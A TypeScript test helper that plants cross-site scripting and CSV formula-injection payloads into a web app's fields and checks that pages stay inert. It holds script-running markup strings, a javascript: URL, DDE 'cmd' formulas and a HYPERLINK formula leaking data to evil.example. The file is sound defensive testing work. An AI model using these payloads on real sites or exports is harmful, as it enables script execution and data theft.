/**
 * Hostile text for the XSS tests (issue #9), planted in every text field a person can fill:
 * through the planners' API, the public enquiry form, the tour, and, for the fields only an
 * import (or an old row) can set, straight in the database. A page opened with `openWatched`
 * records anything that would show the text ran or became markup.
 */
import { expect } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import type { PlotApiFeature } from '../../geodata/api.ts';
import type { Tour } from '../../geodata/targets.ts';
import { createUser } from '../../server/domain/users.ts';
import type { Harness } from './harness.ts';

/** Markup payloads: if any view ran one, window.__xss would be set, or an element or handler would appear. */
export const HTML = [
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '"><script>window.__xss=2</script>',
  "';alert(3);//<svg onload=alert(4)>",
  ']]><script>window.__xss=5</script><![CDATA[',
] as const;
/** All four in one string (160 characters): what most fields get. */
export const PAYLOAD = HTML.join(' ');
/** Spreadsheet formula payloads (OWASP CSV injection): each starts a field that a CSV export carries. */
export const FORMULA = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;
/** A username the API and the CLI refuse (3–64 of [a-z0-9._-]); planted in the database, as an old row could be. */
export const USERNAME = '<img src=x onerror=window.__xss=7>';
/** A plot code only an import can set. */
export const CODE = '<svg onload=window.__xss=8>';
/** A source's url; the panels link only http(s). */
export const SOURCE_URL = 'javascript:window.__xss=9';
export const SOURCE_ID = 'backan-gov-bba5';
export const ZONE = 'ccn-vang-muoi';
export const PASSWORD = 'correct horse battery staple';

/** Every value planted, by field, as the views should show it. */
export const V = {
  zoneNameVi: `CCN ${PAYLOAD}`,
  zoneNameEn: `${FORMULA[3]} ${PAYLOAD}`,
  developer: PAYLOAD,
  zoneNote: `${FORMULA[0]} ${PAYLOAD}`,
  sectors: [...HTML, FORMULA[1]],
  communeNew: HTML[0],
  communeOld: HTML[1],
  reason: PAYLOAD,
  infraNote: PAYLOAD,
  heldTenant: `${FORMULA[2]} ${PAYLOAD}`,
  heldSector: PAYLOAD,
  freeSector: `${FORMULA[1]} ${PAYLOAD}`,
  freeCode: CODE,
  freeNote: PAYLOAD,
  sourceTitle: PAYLOAD,
  sourcePublisher: HTML[2],
  sourceNote: PAYLOAD,
  tourTitle: PAYLOAD,
  tourCaptions: [PAYLOAD, `${FORMULA[0]} ${PAYLOAD}`],
  enquiry: { name: HTML[0], organisation: PAYLOAD, sector: HTML[1], timeline: HTML[2], message: `${FORMULA[0]} ${PAYLOAD}` },
  /** What the enquiry test types into the public form. */
  typedEnquiry: { name: HTML[3], organisation: PAYLOAD, sector: HTML[0], timeline: HTML[1], message: PAYLOAD },
};

/** The text fields planted above, counted for the README's "inputs tried" figure. @public */
export const PLANTED_FIELDS = [
  'zone name (vi)', 'zone name (en)', 'zone developer', 'zone note', 'zone sectors', 'zone new commune', 'zone old commune',
  'edit reason', 'infrastructure source note', 'plot tenant', 'plot sector', 'plot code', 'plot note',
  'source title', 'source publisher', 'source url', 'source note', 'username', 'tour title', 'tour captions',
  'enquiry name', 'enquiry organisation', 'enquiry sector', 'enquiry timeline', 'enquiry message',
  'search box', 'find-land sector filter (URL)', 'find-land commune filter (URL)',
] as const;

export type Planted = { heldPlot: string; freePlot: string; cookie: string };

async function login(h: Harness, username: string, password: string) {
  const res = await fetch(`${h.url}api/session`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username, password }) });
  expect(res.status).toBe(200);
  const cookie = res.headers.get('set-cookie')!.split(';')[0]!;
  return { cookie, csrf: ((await res.json()) as { csrfToken: string }).csrfToken };
}

/** Plants every payload; edits are made by the admin whose username is itself a payload. */
export async function plant(h: Harness): Promise<Planted> {
  const plots = ((await (await fetch(`${h.url}api/zones/${ZONE}/plots`)).json()) as { features: PlotApiFeature[] }).features;
  const available = plots.filter((p) => p.properties.status === 'available');
  const [held, free] = [available[0]!, available[1]!];

  // What only an import (or a row older than today's validation) can hold.
  await createUser(h.db, { username: USERNAME, role: 'admin', password: PASSWORD });
  await h.db.query(`UPDATE plots SET props = props || $2::jsonb WHERE id = $1`, [free.id, JSON.stringify({ code: V.freeCode, note: V.freeNote })]);
  await h.db.query(
    `UPDATE zones SET props = jsonb_set(jsonb_set(props, '{addressNew,commune}', $2::jsonb), '{addressOld,commune}', $3::jsonb) WHERE id = $1`,
    [ZONE, JSON.stringify(V.communeNew), JSON.stringify(V.communeOld)],
  );
  await h.db.query(`UPDATE sources SET data = data || $2::jsonb WHERE id = $1`, [
    SOURCE_ID,
    JSON.stringify({ title: V.sourceTitle, publisher: V.sourcePublisher, url: SOURCE_URL, note: V.sourceNote }),
  ]);

  const { cookie, csrf } = await login(h, USERNAME, PASSWORD);
  const headers = { 'Content-Type': 'application/json', Cookie: cookie, 'X-CSRF-Token': csrf };
  const send = async (method: string, path: string, body: unknown, extra: Record<string, string> = {}) => {
    const res = await fetch(`${h.url}${path}`, { method, headers: { ...headers, ...extra }, body: JSON.stringify(body) });
    expect(res.status, `${method} ${path}: ${await res.clone().text()}`).toBeLessThan(300);
    return res;
  };
  const zoneTag = async () => (await fetch(`${h.url}api/zones/${ZONE}`)).headers.get('etag')!;
  await send('PATCH', `api/zones/${ZONE}`, { name: { vi: V.zoneNameVi, en: V.zoneNameEn }, developer: V.developer, note: V.zoneNote, sectors: V.sectors, reason: V.reason }, { 'If-Match': await zoneTag() });
  await send('PATCH', `api/zones/${ZONE}/infrastructure/levelling`, { progressPct: 70, asOf: '2025-06-30', sourceNote: V.infraNote, reason: V.reason }, { 'If-Match': await zoneTag() });
  await send('PATCH', `api/plots/${held.id}`, { status: 'reserved', tenant: V.heldTenant, sector: V.heldSector, reason: V.reason }, { 'If-Match': `"v${held.properties.version}"` });
  const freeNow = (await (await fetch(`${h.url}api/plots/${free.id}`)).json()) as PlotApiFeature;
  await send('PATCH', `api/plots/${free.id}`, { sector: V.freeSector, reason: V.reason }, { 'If-Match': `"v${freeNow.properties.version}"` });
  const tour: Tour = {
    title: { vi: V.tourTitle, en: V.tourTitle },
    stops: [
      { target: 'province', caption: { vi: V.tourCaptions[0]!, en: V.tourCaptions[0]! }, figures: ['ccn-occupancy'] },
      { target: ZONE, caption: { vi: V.tourCaptions[1]!, en: V.tourCaptions[1]! }, figures: ['occupancy', 'tenants'] },
    ],
  };
  await send('PUT', 'api/tour', tour, { 'If-Match': (await fetch(`${h.url}api/tour`)).headers.get('etag')! });

  // The public enquiry form: no account, no CSRF token.
  for (const target of [{ plotId: held.id }, { zoneId: ZONE }]) {
    const res = await fetch(`${h.url}api/enquiries`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ ...target, ...V.enquiry, email: 'investor@example.com' }),
    });
    expect(res.status, await res.clone().text()).toBe(201);
  }
  return { heldPlot: held.id, freePlot: free.id, cookie };
}

/**
 * Runs in every page before the app: records Content-Security-Policy violations (markup that got
 * in but was stopped by the CSP), and any script, frame, inline handler or javascript: URL that
 * appears in the document, as it appears.
 */
const WATCH = `(() => {
  const log = (window.__xssLog = []);
  // zod 4 probes once for eval support with new Function() and swallows the error; the CSP still
  // reports it. Markup cannot call eval by itself, so eval reports are not counted.
  document.addEventListener('securitypolicyviolation', (e) => e.blockedURI !== 'eval' && log.push('csp ' + e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')), true);
  const JS_URL_ATTRS = /^(href|src|xlink:href|action|formaction|data|srcdoc)$/i;
  const checkOne = (el) => {
    const tag = el.localName;
    if (tag === 'script' && !(el.getAttribute('src') || '').startsWith('/')) log.push('script element ' + el.outerHTML.slice(0, 120));
    if (tag === 'iframe' || tag === 'object' || tag === 'embed' || tag === 'frame') log.push(tag + ' element');
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) log.push('handler ' + a.name + ' on <' + tag + '>');
      if (JS_URL_ATTRS.test(a.name) && /^\\s*javascript:/i.test(a.value)) log.push('javascript: URL in ' + a.name + ' of <' + tag + '>');
    }
  };
  const check = (n) => {
    if (n.nodeType !== 1) return;
    checkOne(n);
    n.querySelectorAll('*').forEach(checkOne);
  };
  new MutationObserver((ms) => {
    for (const m of ms) {
      if (m.type === 'attributes') { if (m.target.nodeType === 1) checkOne(m.target); }
      else m.addedNodes.forEach(check);
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
})();`;

export type Watched = { page: Page; context: BrowserContext; dialogs: string[]; errors: string[]; close(): Promise<void> };

/** A page (signed in when given the session cookie) that records dialogs, page errors and the WATCH log. */
export async function openWatched(
  h: Harness,
  hash: string,
  opts: {
    cookie?: string;
    viewport?: { width: number; height: number };
    init?: string;
    acceptDownloads?: boolean;
    /** Runs before the page loads, e.g. to route a request. */
    prepare?: (page: Page) => Promise<void>;
  } = {},
): Promise<Watched> {
  const context = await h.browser.newContext({ viewport: opts.viewport ?? { width: 1280, height: 900 }, acceptDownloads: opts.acceptDownloads ?? false });
  if (opts.cookie) {
    const [name, value] = [opts.cookie.slice(0, opts.cookie.indexOf('=')), opts.cookie.slice(opts.cookie.indexOf('=') + 1)];
    await context.addCookies([{ name, value, url: h.url }]);
  }
  await context.addInitScript(WATCH);
  if (opts.init) await context.addInitScript(opts.init);
  const page = await context.newPage();
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  page.on('pageerror', (e) => errors.push(e.message));
  await opts.prepare?.(page);
  await page.goto(h.url + hash);
  return { page, context, dialogs, errors, close: () => context.close() };
}

/** Nothing ran, nothing became markup: no __xss, no dialog, no CSP violation, no injected element or handler. */
export async function expectInert(w: Watched) {
  // Give a just-rendered <img onerror> or <svg onload> the moment it needs to fire.
  await w.page.waitForTimeout(300);
  const got = await w.page.evaluate(() => {
    const win = window as unknown as { __xss?: number; __xssLog?: string[] };
    return {
      xss: win.__xss ?? null,
      log: win.__xssLog ?? ['(watch script missing)'],
      injected: document.querySelectorAll('img[src="x"], svg[onload], script:not([src]), iframe, [onerror], [onload]').length,
    };
  });
  expect(got).toEqual({ xss: null, log: [], injected: 0 });
  expect(w.dialogs).toEqual([]);
  expect(w.errors).toEqual([]);
}

/** Text with every run of white space removed: for text that a PDF wraps or a browser reflows. */
export const squeeze = (s: string) => s.replace(/\s+/g, '');
